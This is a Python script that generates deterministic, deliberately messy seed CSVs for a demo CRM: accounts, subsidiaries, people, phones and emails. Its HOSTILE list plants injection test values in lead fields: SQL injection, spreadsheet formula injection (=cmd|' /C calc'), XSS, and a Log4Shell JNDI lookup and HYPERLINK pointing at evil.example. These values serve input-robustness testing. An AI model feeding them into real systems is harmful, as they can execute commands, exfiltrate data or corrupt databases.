"""Write the demo CRM: the seven CSV files of seeds/demo.

    python scripts/build_demo.py [--out DIR]

The demo is one CRM export at 2026-10-30 15:00:00 UTC. Leads created before
2026-10-27 were handled by an earlier process; those created since then wait for
the project to route them. Organisations, typed employers, job titles and names
are real public lists (scripts/demo_material/README.md); people, relations,
amounts and events are made up, and the dirt is there on purpose.

The output is the same byte for byte on every supported Python: all chance comes
from Random.random(), nothing depends on hash order, and no float is printed.
"""

from __future__ import annotations

import argparse
import csv
import hashlib
import random
import unicodedata
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import NamedTuple, TypeVar

ROOT = Path(__file__).resolve().parent.parent
MATERIAL = ROOT / "scripts" / "demo_material"
OWNERS = MATERIAL / "owners.csv"

START = datetime(2026, 9, 1)
TAKEOVER = datetime(2026, 10, 27)
NOW = datetime(2026, 10, 30, 15)

OLD_LEADS = 5030
NEW_LEADS = 950
CONTACTS = 3500
OPPORTUNITIES = 700
ACCOUNTS_BY_SOURCE = (
    ("stackalytics", 532), ("sp500", 480), ("crunchbase", 2040), ("fdic", 600),
    ("remote", 620), ("university", 520), ("sec", 140),
)  # fmt: skip
SUBSIDIARIES = 217
TWIN_ACCOUNTS = 60

Row = dict[str, str]
T = TypeVar("T")

COLUMNS: dict[str, str] = {
    "demo_leads": "lead_id created_at updated_at email first_name last_name phone company website"
    " job_title country state city postal_code employee_count annual_revenue industry"
    " product_interest lead_source form_name message lifecycle_stage status consent_status"
    " language partner_id owner_id account_id converted_at is_deleted do_not_call has_opted_out_of_email"
    " has_opted_out_of_sms preferred_channel",
    "demo_accounts": "account_id account_name website domains phone country state city postal_code"
    " employee_count annual_revenue industry account_type account_tier parent_account_id owner_id"
    " last_activity_at created_at updated_at is_deleted",
    "demo_contacts": "contact_id account_id email phone owner_id created_at updated_at",
    "demo_opportunities": "opportunity_id account_id lead_id owner_id stage is_closed is_won amount"
    " created_at closed_at",
    "demo_activities": "activity_id lead_id owner_id activity_type direction occurred_at",
    "demo_lead_history": "lead_id field old_value new_value changed_at changed_by",
    "demo_sync_results": "lead_id assignment_id operation status error_message sync_run_id attempted_at",
}

AMER = ("US", "CA", "BR", "MX", "AR", "CL")
APAC = ("IN", "SG", "AU", "JP", "CN", "KR", "NZ", "ID")
PARTNERS = {
    **dict.fromkeys(("SE", "DK", "NO", "FI"), "partner-nordic"),
    **dict.fromkeys(("BR", "MX", "AR", "CL"), "partner-latam"),
    **dict.fromkeys(("AE", "SA"), "partner-gulf"),
    **dict.fromkeys(("AU", "NZ"), "partner-anz"),
}
NAME_LANGUAGES = {
    "DE": "de", "CH": "de", "FR": "fr", "BE": "fr", "ES": "es", "MX": "es", "AR": "es", "CL": "es",
    "BR": "pt", "IN": "in", "JP": "ja", "CN": "zh", "SG": "zh", "NL": "nl", "SE": "nordic",
    "DK": "nordic", "NO": "nordic", "FI": "nordic", "AE": "ar", "SA": "ar",
}  # fmt: skip
ZONE_OFFSETS = {
    "America/New_York": -240, "America/Chicago": -300, "America/Los_Angeles": -420,
    "Europe/London": 60, "Europe/Berlin": 120, "Asia/Singapore": 480,
}  # fmt: skip

WEEKDAY_WEIGHTS = (110, 125, 120, 110, 90, 26, 24)
HOUR_WEIGHTS = (6, 4, 3, 3, 4, 8, 16, 34, 62, 92, 100, 96, 72, 82, 96, 92, 80, 60, 40, 32, 28, 24, 17, 10)

LEGAL_FORMS = (
    "inc llc ltd corp corporation company co gmbh ag sa sas bv nv ab oy as plc limited incorporated"
    " kk lp holdings pte pty pvt ltda srl de new the"
).split()
SHARED_HOSTS = (
    "github.com github.io linkedin.com facebook.com medium.com google.com notion.site gmail.com"
    " angel.co wordpress.com twitter.com x.com"
).split()
DISPOSABLE = (
    "mailinator.com guerrillamail.com yopmail.com 10minutemail.com temp-mail.org trashmail.com"
    " sharklasers.com getnada.com maildrop.cc mailnesia.com fakeinbox.com tempr.email"
).split()
DEPARTED = ("emea-00", "amer-com-00", "apac-00", "departed-user-17", "005-unknown")

JUNK_COMPANIES = (
    "self employed", "Self-employed", "n/a", "N/A", "asdf", "student", "Student", "none", "-", ".",
    "test", "private", "freelancer", "xxx", "no company", "retired", "individual", "TBD", "unknown",
)  # fmt: skip
JUNK_COUNTRIES = ("Atlantis", "N/A", "n/a", "-", "Other", "Earth", "Select your country", "0", "test")
JUNK_MAILS = (
    "test@test.com", "none@none.com", "noemail", "a@a", "jane.doe@", "@example.com",
    "first last@gmail.com", "no@no.no", "name@company..com", "n/a", "asdf@asdf.asdf",
)  # fmt: skip
JUNK_PHONES = ("123", "000-000-0000", "n/a", "call me", "+", "1111111111", "12345", "ext. 12", "+1")
JUNK_SIZES = ("unknown", "a lot", "n/a", "-5", "0", "just me", "1.2.3", "99999999999", "50ish")
JUNK_SITES = ("n/a", "http://", "www", "none", "localhost", "https://www.linkedin.com/company/unknown", "www.")

BUYER_TITLES = (
    "VP Sales", "VP of Sales", "Vice President, Sales Operations", "Head of Sales", "Sales Director",
    "Director of Revenue Operations", "RevOps Manager", "Revenue Operations Analyst", "CRO",
    "Chief Revenue Officer", "CEO", "Founder", "Co-Founder & CEO", "Owner", "CTO", "CIO", "COO", "CFO",
    "Head of Marketing", "Marketing Operations Manager", "CMO", "Demand Generation Manager",
    "Salesforce Administrator", "CRM Manager", "CRM Admin", "Business Systems Analyst",
    "Director of IT", "IT Manager", "Data Engineer", "Senior Data Engineer", "Analytics Engineer",
    "Head of Data", "VP Data & Analytics", "Data Analyst", "Software Engineer", "Product Manager",
    "SDR Manager", "Account Executive", "Sales Operations Manager", "Managing Director",
    "General Manager", "Procurement Manager", "Consultant", "Student", "Intern", "Professor",
    "sr. mgr sales ops", "vp", "dir. of marketing", "SVP, Global Go-To-Market Strategy",
)  # fmt: skip
LOCAL_TITLES = {
    "DE": ("Geschäftsführer", "Geschäftsführerin", "Vertriebsleiter", "Leiterin Marketing", "IT-Leiter"),
    "CH": ("Geschäftsführer", "Leiter Verkauf"),
    "FR": ("Directeur commercial", "Directrice marketing", "PDG", "Responsable CRM", "DSI"),
    "ES": ("Director comercial", "Gerente de ventas"),
    "MX": ("Director General", "Gerente de ventas"),
    "BR": ("Diretor Comercial", "Gerente de Vendas", "Analista de CRM", "Sócio"),
    "JP": ("営業部長", "代表取締役", "マーケティング担当", "部長"),
    "CN": ("销售总监", "总经理"),
    "NL": ("Directeur", "Hoofd Verkoop"),
    "IT": ("Direttore vendite", "Amministratore delegato"),
    "PL": ("Dyrektor sprzedaży",),
    "SE": ("Försäljningschef",),
}

MESSAGES = (
    "Please call me back this week.", "We would like a demo for a team of 40.",
    "How much is it per seat?", "Looking to replace our current tool before the end of the quarter.",
    "Can you send pricing? Thanks!", "We met at your booth.", "Do you support Postgres?",
    "Need SSO and an audit log.", "urgent!!", "Is there a free trial?",
    "We are a customer already and need help with our account.",
    'Our CFO asked: "what does it cost per year?"',
    "Two questions:\n1. Do you integrate with our CRM?\n2. Where is the data kept?",
    "Bitte um Rückruf.", "Merci de me recontacter la semaine prochaine.", "資料を送ってください。",
    "Gostaria de uma demonstração.", "please remove me from your list", "asap", "👍", "Thanks 🙏🚀",
)  # fmt: skip
SPAM = (
    "Rank #1 on Google! Affordable SEO packages, 500 backlinks for $99. Reply YES.",
    "🎰 Best online casino bonus 200% no deposit >>> http://casino.example/win",
    "Double your bitcoin in 24 hours. Trusted crypto investment platform.",
    "We can design your website for a low price. Do you have a minute?",
    "Buy verified email lists of decision makers, 10 million contacts.",
    "Guest post and link exchange offer for your domain.",
)
HOSTILE = (
    ("message", "'; drop table leads;--"),
    ("message", "=cmd|' /C calc'!A0"),
    ("message", "<script>alert('lead')</script>"),
    ("company", '=HYPERLINK("http://evil.example","click")'),
    ("first_name", "Robert'); DROP TABLE leads;--"),
    ("message", "{{ env_var('PASSWORD') }} {% raw %} ${jndi:ldap://evil.example/a}"),
    ("company", "+1-1|cmd"),
    ("last_name", "😀 Emoji"),
    ("message", 'line one\nline "two"\n\n, , ;\ttab'),
    ("company", "Zero\u200bWidth\u00a0Inc"),
    ("first_name", "null"),
    ("last_name", 'O\'Brien-"Bob"'),
    ("email", '"><img src=x onerror=alert(1)>@example.com'),
    ("message", "\\'; SELECT pg_sleep(10); --\\"),
    ("job_title", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("company", "Very Long Company Name " * 11 + "Ltd"),
)


class Dice:
    """Chance that is the same on every Python: everything is made of random()."""

    def __init__(self, name: str) -> None:
        seed = int.from_bytes(hashlib.sha256(name.encode()).digest()[:8], "big")
        self._random = random.Random(seed)

    def below(self, stop: int) -> int:
        """A whole number from 0 to stop - 1."""
        return int(self._random.random() * stop)

    def between(self, first: int, last: int) -> int:
        """A whole number from first to last, both included."""
        return first + self.below(last - first + 1)

    def chance(self, per_thousand: int) -> bool:
        """True in so many of a thousand throws."""
        return self.below(1000) < per_thousand

    def pick(self, items: Sequence[T]) -> T:
        """One of the items, all equally likely."""
        return items[self.below(len(items))]

    def skewed(self, items: Sequence[T]) -> T:
        """One of the items, the first ones more often."""
        return items[min(self.below(len(items)), self.below(len(items)))]

    def weighted(self, items: Sequence[tuple[T, int]]) -> T:
        """One of the items by weight."""
        ticket = self.below(sum(weight for _, weight in items))
        for item, weight in items:
            ticket -= weight
            if ticket < 0:
                return item
        raise AssertionError("weights must be positive")

    def digits(self, pattern: str) -> str:
        """The pattern with a digit for every #."""
        return "".join(str(self.below(10)) if mark == "#" else mark for mark in pattern)

    def shuffled(self, items: Sequence[T]) -> list[T]:
        """The items in another order."""
        keyed = sorted((self._random.random(), index) for index in range(len(items)))
        return [items[index] for _, index in keyed]

    def sample(self, items: Sequence[T], size: int) -> list[T]:
        """Items drawn without repetition, in their order."""
        chosen = self.shuffled(range(len(items)))[:size]
        return [items[index] for index in sorted(chosen)]


# ---------------------------------------------------------------- what the demo is made of


@dataclass
class Organisation:
    """A real organisation as its source writes it."""

    name: str
    source: str
    source_id: str = ""
    website: str = ""
    domains: list[str] = field(default_factory=list)
    country: str = ""  # code, empty where the source has none
    country_text: str = ""
    state: str = ""
    city: str = ""
    postal_code: str = ""
    industry: str = ""
    employees: int = 0


@dataclass
class Person:
    """A made-up person."""

    first: str
    last: str
    latin_first: str
    latin_last: str
    nickname: str
    country: str
    phone: str
    private_mail: str


@dataclass
class Account:
    """A CRM account with the organisation it stands for."""

    row: Row
    organisation: Organisation
    contacts: list[tuple[Person, str]] = field(default_factory=list)


@dataclass
class Lead:
    """A lead row with what is true about it behind the row."""

    row: Row
    created: datetime
    person: Person
    organisation: Organisation | None
    account: Account | None
    assigned: datetime | None = None
    last_touch: datetime = START


class Owner(NamedTuple):
    """A line of the material's owners.csv."""

    owner_id: str
    team: str
    offset: int
    active_from: datetime
    active_to: datetime


class Arrival(NamedTuple):
    """When, from where and through which source a lead comes in."""

    created: datetime
    country: str
    source: str


def read_rows(path: Path) -> list[Row]:
    """All rows of a CSV file."""
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def csv_line(values: Iterable[str]) -> str:
    """One CSV line, quoted only where needed, the same on every Python."""
    cells = []
    for value in values:
        if any(mark in value for mark in ',"\n\r') or value != value.strip():
            value = '"' + value.replace('"', '""') + '"'
        cells.append(value)
    return ",".join(cells) + "\n"


def write_rows(folder: Path, name: str, rows: Iterable[Row]) -> None:
    """Write one seed."""
    columns = COLUMNS[name].split()
    with (folder / f"{name}.csv").open("w", encoding="utf-8", newline="") as handle:
        handle.write(csv_line(columns))
        handle.writelines(csv_line(row.get(column, "") for column in columns) for row in rows)


def stamp(moment: datetime) -> str:
    """A timestamp as most of the export writes it."""
    return moment.strftime("%Y-%m-%d %H:%M:%S")


def ascii_fold(text: str) -> str:
    """Lower case, accents dropped, letters and digits only."""
    plain = unicodedata.normalize("NFKD", text.replace("ß", "ss")).encode("ascii", "ignore").decode()
    return "".join(mark for mark in plain.lower() if mark.isalnum())


def words_of(name: str) -> list[str]:
    """The words of an organisation's name without legal forms and punctuation."""
    cleaned = "".join(mark if mark.isalnum() or mark in "&" else " " for mark in name.replace(".", ""))
    words = cleaned.split()
    kept = [word for word in words if word.lower() not in LEGAL_FORMS]
    return kept or words


def clean_name(name: str) -> str:
    """A key under which two spellings of one name usually meet."""
    return "".join(words_of(name)).casefold()


def domain_of(website: str) -> str:
    """The host of a website without scheme, path and leading www."""
    host = website.strip().lower().split("://")[-1].split("/")[0].split("?")[0].removeprefix("www.")
    return host if "." in host and " " not in host and "," not in host else ""


def region_of(country: str) -> str:
    """The sales region of a country code."""
    if country in AMER or not country:
        return "amer"
    return "apac" if country in APAC else "emea"


class World:
    """The raw material, read once."""

    def __init__(self) -> None:
        self.dice = Dice("world")
        self.countries = {row["code"]: row for row in read_rows(MATERIAL / "countries.csv")}
        self.country_weights = [(code, int(row["weight"])) for code, row in self.countries.items()]
        self.states = {(row["country"], row["name"]): row for row in read_rows(MATERIAL / "states.csv")}
        self.states |= {(row["country"], row["code"]): row for row in read_rows(MATERIAL / "states.csv")}
        self.places: dict[str, list[Row]] = {}
        for row in read_rows(MATERIAL / "places.csv"):
            self.places.setdefault(row["country"], []).append(row)
        self.first_names = read_rows(MATERIAL / "first_names.csv")
        self.surnames = [row["surname"].title() for row in read_rows(MATERIAL / "surnames.csv")]
        self.foreign_names: dict[tuple[str, str], list[Row]] = {}
        for row in read_rows(MATERIAL / "international_names.csv"):
            self.foreign_names.setdefault((row["language"], row["part"]), []).append(row)
        self.titles = [row["job_title"] for row in read_rows(MATERIAL / "onet_job_titles.csv")]
        self.typed: dict[str, list[str]] = {}
        self.junk_companies: list[str] = list(JUNK_COMPANIES)
        for row in read_rows(MATERIAL / "stackalytics_typed_employers.csv"):
            if row["label"] == "company":
                self.typed.setdefault(row["account_id"], []).append(row["typed_company"])
            else:
                self.junk_companies.append(row["typed_company"])
        self.recorded = [
            row for row in read_rows(MATERIAL / "stackalytics_mail_employers.csv") if row["label"] == "company"
        ]
        self.owners = [read_owner(row) for row in read_rows(OWNERS)]
        self.free_domains = {"proton.me"}
        for row in self.countries.values():
            self.free_domains.update(row["free_mail"].split("|"))
        self.used_mails: set[str] = set()
        self.used_domains: set[str] = set()

    def team(self, team: str, at: datetime) -> list[Owner]:
        """The people of a team who are at work at a moment."""
        return [one for one in self.owners if one.team == team and one.active_from <= at < one.active_to]

    def offset(self, owner_id: str) -> int:
        """Minutes an owner's clock is ahead of UTC (summer time, the demo's season)."""
        return next((one.offset for one in self.owners if one.owner_id == owner_id), 0)


def read_owner(row: Row) -> Owner:
    """An owner with the period of activity as moments."""
    first = datetime.fromisoformat(row["active_from"] or "2000-01-01")
    last = datetime.fromisoformat(row["active_to"] or "2100-01-01") + timedelta(days=1)
    return Owner(row["owner_id"], row["team"], ZONE_OFFSETS.get(row["time_zone"], 0), first, last)


# ---------------------------------------------------------------- organisations and accounts


def guessed_domain(world: World, name: str) -> str:
    """A domain made of the name, where the source has none and nobody else has it yet."""
    if domain_of(name):
        domain = ascii_fold(name.rsplit(".", 1)[0]) + "." + ascii_fold(name.rsplit(".", 1)[1])
    else:
        domain = ascii_fold("".join(words_of(name)[:3]).replace("&", "and")) + ".com"
    return domain if 6 < len(domain) < 26 and domain not in world.used_domains else ""


def spelled_website(dice: Dice, domain: str) -> str:
    """A domain as a website field has it."""
    form = dice.weighted([("https://www.~", 30), ("http://~/", 12), ("www.~", 25), ("~", 30), ("HTTP://WWW.~", 3)])
    return form.replace("~", domain.upper() if form.startswith("HTTP") else domain)


def read_organisations(world: World) -> dict[str, list[Organisation]]:
    """The organisations of every source."""
    dice = Dice("organisations")
    found: dict[str, list[Organisation]] = {}

    def add(one: Organisation, guess: bool = False) -> None:
        if guess and (domain := guessed_domain(world, one.name)):
            one.domains = [domain]
        world.used_domains.update(one.domains)
        if one.domains and not one.website:
            one.website = spelled_website(dice, one.domains[0])
        found.setdefault(one.source, []).append(one)

    for row in read_rows(MATERIAL / "stackalytics_accounts.csv"):
        domains = row["domains"].split(";") if row["domains"] else []
        endings = [code for code in world.countries if domains and domains[0].endswith("." + code.lower())]
        country = endings[0] if endings else ("GB" if domains and domains[0].endswith(".uk") else "")
        text = dice.pick(world.countries[country]["spellings"].split("|")[:4]) if country else ""
        low, high = dice.weighted([((8, 200), 45), ((200, 5000), 35), ((5000, 300000), 20)])
        size = dice.between(low, high)
        add(Organisation(row["account_name"], "stackalytics", row["account_id"], "", domains, country, text,
                         industry="Information Technology", employees=size))  # fmt: skip
    for row in read_rows(MATERIAL / "fdic_institutions.csv"):
        domain = domain_of(row["website"])
        add(Organisation(row["name"], "fdic", "", row["website"], [domain] if domain else [], "US", "US",
                         row["state"], row["city"], row["zip"], "Banking",
                         max(4, int(row["assets_thousand_usd"]) // 6000)))  # fmt: skip
    for row in read_rows(MATERIAL / "universities.csv"):
        add(Organisation(row["name"], "university", "", "", [row["domain"]], row["country_code"], row["country"],
                         row["state_province"], industry="Higher Education",
                         employees=dice.between(150, 9000)))  # fmt: skip
    sizes = {"tiny": (2, 10), "startup": (5, 40), "small": (11, 50), "medium": (51, 500), "large": (501, 5000),
             "enterprise": (5001, 60000), "": (5, 300)}  # fmt: skip
    homes = {
        "worldwide": "US US GB DE CA NL IN AU FR BR SG", "americas": "US US US CA CA BR MX",
        "europe": "GB DE FR NL ES SE", "americas-europe": "US US GB DE CA", "asia-pacific": "SG AU IN JP",
        "other": "US IN JP SG AU ZA DE BR FR GB",
    }  # fmt: skip
    for row in read_rows(MATERIAL / "remote_companies.csv"):
        domain = domain_of(row["website"])
        country = dice.pick(homes[row["region"]].split())
        text = dice.pick(world.countries[country]["spellings"].split("|")[:5])
        place = draw_place(world, dice, country)
        add(Organisation(row["title"], "remote", "", row["website"], [domain] if domain else [], country, text,
                         place["state"], place["city"], place["postal_code"], dice.pick(["Software", "Internet", ""]),
                         dice.between(*sizes[row["company_size"]])))  # fmt: skip
    for row in read_rows(MATERIAL / "sp500.csv"):
        city, _, area = row["headquarters"].partition(", ")
        american = ("US", area) in world.states
        country = "US" if american else next(
            (code for code, one in world.countries.items() if area in one["spellings"].split("|")), "US"
        )  # fmt: skip
        one = Organisation(row["name"], "sp500", row["symbol"], "", [], country, "United States" if american else area,
                           area if american else "", city, "", row["sector"], dice.between(3000, 180000))  # fmt: skip
        add(one, guess=True)
    for row in read_rows(MATERIAL / "crunchbase_2013.csv"):
        employees = dice.between(2, 30) + int(row["funding_usd"] or "0") // dice.between(60000, 220000)
        one = Organisation(row["name"], "crunchbase", row["permalink"], "", [], "US", row["country"], row["state"],
                           row["city"], "", row["category"], employees)  # fmt: skip
        add(one, guess=not dice.chance(120))
    for row in read_rows(MATERIAL / "sec_companies.csv"):
        one = Organisation(row["name"], "sec", country="US", employees=dice.between(20, 8000))
        add(one, guess=dice.chance(450))
    return found


def draw_place(world: World, dice: Dice, country: str) -> Row:
    """A city of a country with a state and a postal code as people write them."""
    if country == "US":
        row = dice.pick(US_BANK_PLACES)
        return {"city": row["city"], "state": row["state"], "postal_code": row["zip"]}
    row = dice.pick(world.places[country])
    return {"city": row["city"], "state": row["state"], "postal_code": dice.digits(row["postal_pattern"])}


US_BANK_PLACES = [row for row in read_rows(MATERIAL / "fdic_institutions.csv") if row["state"] and row["zip"]]


def owner_for(world: World, dice: Dice, country: str, employees: int, at: datetime) -> str:
    """An owner of the region and, in the Americas, of the size."""
    region = region_of(country)
    team = f"{region}_sales"
    if region == "amer":
        team = "amer_enterprise" if employees >= 1000 else "amer_commercial"
    return dice.pick(world.team(team, at)).owner_id


def money(dice: Dice, employees: int) -> str:
    """A yearly revenue as typed, in line with the head count."""
    millions = max(1, employees * dice.between(80, 260) // 1000)
    form = dice.weighted([("000000", 60), ("$M", 18), ("commas", 14), ("range", 5), ("euro", 3)])
    if form == "$M":
        return f"${millions}M"
    if form == "commas":
        return f"{millions * 1000000:,}"
    if form == "range":
        return f"${millions}M - ${millions * 2}M"
    return f"€{millions}m" if form == "euro" else f"{millions}000000"


def head_count(dice: Dice, employees: int, tidy: bool) -> str:
    """A number of employees as typed: number, number with commas, range, shorthand or junk."""
    if not tidy and dice.chance(25):
        return dice.pick(JUNK_SIZES)
    form = dice.weighted([("plain", 90), ("commas", 5), ("range", 5)] if tidy else
                         [("plain", 55), ("commas", 12), ("range", 27), ("short", 6)])  # fmt: skip
    if form == "commas":
        return f"{employees:,}"
    if form == "range":
        steps = (1, 11, 51, 201, 501, 1001, 5001, 10001)
        low = max((step for step in steps if step <= employees), default=1)
        return "10001+" if low == 10001 else f"{low}-{steps[steps.index(low) + 1] - 1}"
    if form == "short" and employees >= 1000:
        return f"{employees // 1000}k+"
    return str(employees)


def draw_phone(world: World, dice: Dice, country: str, state: str = "") -> str:
    """A phone number in one of the country's spellings (fictitious ranges where they exist)."""
    pattern = dice.pick(world.countries[country]["phones"].split("|"))
    if "~" in pattern:
        known = world.states.get((country, state))
        if known is None:
            known = dice.pick([row for key, row in world.states.items() if key[0] == country])
        pattern = pattern.replace("~", dice.pick(known["area_codes"].split("|")))
    number = dice.digits(pattern)
    return number + f" x{dice.between(10, 999)}" if dice.chance(12) else number


def build_accounts(world: World, found: dict[str, list[Organisation]]) -> list[Account]:
    """The accounts of the CRM, families and dirt included."""
    dice = Dice("accounts")
    chosen: list[Organisation] = []
    names: set[str] = set()
    for source, size in ACCOUNTS_BY_SOURCE:
        fresh = []
        for one in found[source]:
            key = clean_name(one.name)
            if key not in names and one.country in ("", *world.countries):
                names.add(key)
                fresh.append(one)
        chosen += dice.sample(fresh, size)
    subsidiaries = draw_subsidiaries(world, dice, chosen)
    everyone = chosen + [one for one, _ in subsidiaries]
    accounts = [Account(account_row(world, dice, one), one) for one in dice.shuffled(everyone)]
    accounts += [twin_account(world, dice, one) for one in dice.sample(accounts, TWIN_ACCOUNTS)]
    for number, account in enumerate(accounts, start=1):
        account.row["account_id"] = f"A-{number:05d}"
    by_organisation = {id(one.organisation): one for one in reversed(accounts)}
    for child, parent in subsidiaries:
        by_organisation[id(child)].row["parent_account_id"] = by_organisation[id(parent)].row["account_id"]
    dirty_accounts(dice, accounts)
    return accounts


def draw_subsidiaries(world: World, dice: Dice, chosen: list[Organisation]) -> list[tuple[Organisation, Organisation]]:
    """National companies of large organisations, each with its parent."""
    big = [one for one in chosen if one.employees > 8000 and one.source in ("sp500", "stackalytics")]
    pairs: list[tuple[Organisation, Organisation]] = []
    taken: set[str] = set()
    abroad = [item for item in world.country_weights if item[0] != "US"]
    while len(pairs) < SUBSIDIARIES:
        parent = dice.skewed(big)
        country = dice.weighted(abroad)
        facts = world.countries[country]
        short = " ".join(words_of(parent.name)[:2])
        place_name = facts["spellings"].split("|")[0 if country != "DE" else 2]
        name = f"{short} {place_name} {facts['legal_form']}"
        if country == parent.country or name in taken:
            continue
        taken.add(name)
        domains = list(parent.domains[:1])
        if domains and dice.chance(450):
            local = domains[0].split(".")[0] + "." + facts["tld"]
            domains = [local] if local not in world.used_domains else []
            world.used_domains.update(domains)
        website = spelled_website(dice, domains[0]) if domains and dice.chance(700) else ""
        place = draw_place(world, dice, country)
        child = Organisation(name, "subsidiary", "", website, domains if website else [], country,
                             dice.pick(facts["spellings"].split("|")[:4]), place["state"], place["city"],
                             place["postal_code"], parent.industry,
                             max(20, parent.employees // dice.between(8, 60)))  # fmt: skip
        above = dice.pick(pairs)[0] if pairs and dice.chance(60) else parent
        if above is not parent and not above.name.startswith(short):
            above = parent
        pairs.append((child, above))
    return pairs


def account_row(world: World, dice: Dice, one: Organisation) -> Row:
    """The account of an organisation, as the CRM has it."""
    created = datetime(2021, 1, 4) + timedelta(minutes=dice.below(5 * 365 * 1440 + 200 * 1440))
    updated = created + timedelta(minutes=dice.below(int((NOW - created).total_seconds()) // 60))
    kind = dice.weighted([("customer", 120), ("partner", 30), ("competitor", 10), ("prospect", 840)])
    tier = "tier_1" if one.employees >= 5000 else "tier_2" if one.employees >= 500 else "tier_3"
    active = dice.chance({"customer": 950, "partner": 700}.get(kind, 330))
    last = NOW - timedelta(minutes=dice.between(60, (60 if kind == "customer" else 420) * 1440))
    owner = owner_for(world, dice, one.country, one.employees, NOW)
    if kind == "customer" and dice.chance(150):
        owner = dice.pick(world.team("customer_success", NOW)).owner_id
    if dice.chance(120):
        owner = ""
    return {
        "account_name": one.name,
        "website": one.website,
        "domains": ";".join(one.domains[1:]),
        "phone": draw_phone(world, dice, one.country or "US", one.state) if dice.chance(330) else "",
        "country": "" if dice.chance(60) else one.country_text,
        "state": one.state,
        "city": one.city,
        "postal_code": one.postal_code,
        "employee_count": head_count(dice, one.employees, True) if dice.chance(850) else "",
        "annual_revenue": money(dice, one.employees) if dice.chance(380) else "",
        "industry": one.industry,
        "account_type": kind,
        "account_tier": "" if dice.chance(80) else tier,
        "parent_account_id": "",
        "owner_id": owner,
        "last_activity_at": stamp(max(last, created)) if active else "",
        "created_at": stamp(created),
        "updated_at": stamp(updated),
        "is_deleted": "false",
    }


def twin_account(world: World, dice: Dice, original: Account) -> Account:
    """A second account for the same organisation: same domain, other spelling, often another owner."""
    row = dict(original.row)
    name = original.organisation.name
    row["account_name"] = dice.pick([" ".join(words_of(name)), name.upper(), name + " (old)", name + " HQ", name])
    row["owner_id"] = owner_for(world, dice, original.organisation.country, dice.between(1, 2000), START)
    row["account_type"] = dice.weighted([("prospect", 80), (row["account_type"], 20)])
    row["phone"] = row["annual_revenue"] = row["last_activity_at"] = ""
    row["created_at"] = row["updated_at"] = stamp(datetime(2026, 1, 5) + timedelta(minutes=dice.below(200 * 1440)))
    return Account(row, original.organisation)


def dirty_accounts(dice: Dice, accounts: list[Account]) -> None:
    """The dirt every CRM has among its accounts."""
    victims = iter(dice.shuffled([one for one in accounts if not one.row["parent_account_id"]]))
    for owner in ["amer-com-10"] * 90 + ["amer-com-00"] * 12 + ["integration-user"] * 15:
        next(victims).row["owner_id"] = owner
    for _ in range(45):
        next(victims).row["is_deleted"] = "true"
    for name in ["", "", "", "", "", "   ", "-", "Unknown", "TEST ACCOUNT", "do not use"]:
        next(victims).row["account_name"] = name
    for website in [*JUNK_SITES, *JUNK_SITES, "gmail.com", "www.gmail.com", "yahoo.com", "hotmail.com", "qq.com"]:
        next(victims).row["website"] = website
    for domains in ["gmail.com", "outlook.com;hotmail.com", ";;", "n/a", "web.de"]:
        next(victims).row["domains"] = domains
    for kind in ["", "Customer", "CUSTOMER", "vendor", ""]:
        next(victims).row["account_type"] = kind
    loop = [next(victims).row for _ in range(2)]
    loop[0]["parent_account_id"], loop[1]["parent_account_id"] = loop[1]["account_id"], loop[0]["account_id"]
    itself = next(victims).row
    itself["parent_account_id"] = itself["account_id"]
    for _ in range(3):
        next(victims).row["parent_account_id"] = f"A-9{dice.below(10000):04d}"


# ---------------------------------------------------------------- people


def draw_person(world: World, dice: Dice, country: str, state: str = "") -> Person:
    """A made-up person: a first name and a surname that never met before."""
    common = dice.pick(world.first_names)
    first = latin_first = common["first_name"].title()
    last = latin_last = dice.pick(world.surnames)
    nickname = common["nickname"].title()
    language = NAME_LANGUAGES.get(country, "")
    if not language and country in ("US", "GB", "CA", "AU") and dice.chance(160):
        language = dice.pick(("in", "zh", "es", "de", "fr", "ar"))
    if language and dice.chance(780):
        given = dice.pick(world.foreign_names[language, "first"])
        family = dice.pick(world.foreign_names[language, "last"])
        first, latin_first, last, latin_last = given["written"], given["latin"], family["written"], family["latin"]
        nickname = first
    style = dice.weighted([("", 900), ("lower", 60), ("upper", 40)])
    if style:
        first, last = (first.lower(), last.lower()) if style == "lower" else (first.upper(), last.upper())
    phone = ""
    if dice.chance(720):
        phone = dice.pick(JUNK_PHONES) if dice.chance(25) else draw_phone(world, dice, country, state)
    person = Person(first, last, latin_first, latin_last, nickname, country, phone, "")
    person.private_mail = draw_mail(world, dice, person, dice.pick(world.countries[country]["free_mail"].split("|")))
    return person


def draw_mail(world: World, dice: Dice, person: Person, domain: str) -> str:
    """An address nobody in the demo has yet."""
    first, last = ascii_fold(person.latin_first) or "info", ascii_fold(person.latin_last) or "office"
    form = dice.weighted([("{f}.{l}", 42), ("{i}{l}", 20), ("{f}", 8), ("{f}{l}", 10), ("{f}_{l}", 5),
                          ("{l}.{f}", 5), ("{i}.{l}", 6), ("{f}{j}", 4)])  # fmt: skip
    local = form.replace("{f}", first).replace("{l}", last).replace("{i}", first[0]).replace("{j}", last[0])
    if domain in world.free_domains and (form in ("{f}", "{f}{j}") or dice.chance(550)):
        local += str(dice.between(101, 9999))
    elif dice.chance(60):
        local += str(dice.between(1, 99))
    mail = f"{local}@{domain}"
    while mail in world.used_mails:
        mail = f"{local}{dice.between(2, 9999)}@{domain}"
    world.used_mails.add(mail)
    return mail


def work_domain(account: Account) -> str:
    """The domain people of an account write from, empty if the CRM cannot know it."""
    domains = account.organisation.domains
    return domains[0] if domains and domains[0] not in SHARED_HOSTS else ""


def build_contacts(world: World, accounts: list[Account]) -> list[Row]:
    """Contacts, customers having the most of them."""
    dice = Dice("contacts")
    customers = [one for one in accounts if one.row["account_type"] == "customer"]
    rows = []
    for number in range(1, CONTACTS + 1):
        account = dice.skewed(customers) if dice.chance(420) else dice.pick(accounts)
        person = draw_person(world, dice, account.organisation.country or "US", account.organisation.state)
        domain = work_domain(account)
        mail = draw_mail(world, dice, person, domain) if domain and dice.chance(930) else person.private_mail
        account.contacts.append((person, mail))
        created = date(2022, 1, 3) + timedelta(days=dice.below(1740))
        rows.append(
            {
                "contact_id": f"C-{number:05d}",
                "account_id": account.row["account_id"],
                "email": "" if dice.chance(25) else mail,
                "phone": person.phone,
                "owner_id": account.row["owner_id"],
                "created_at": created.isoformat(),
                "updated_at": (created + timedelta(days=dice.below((NOW.date() - created).days))).isoformat(),
            }
        )
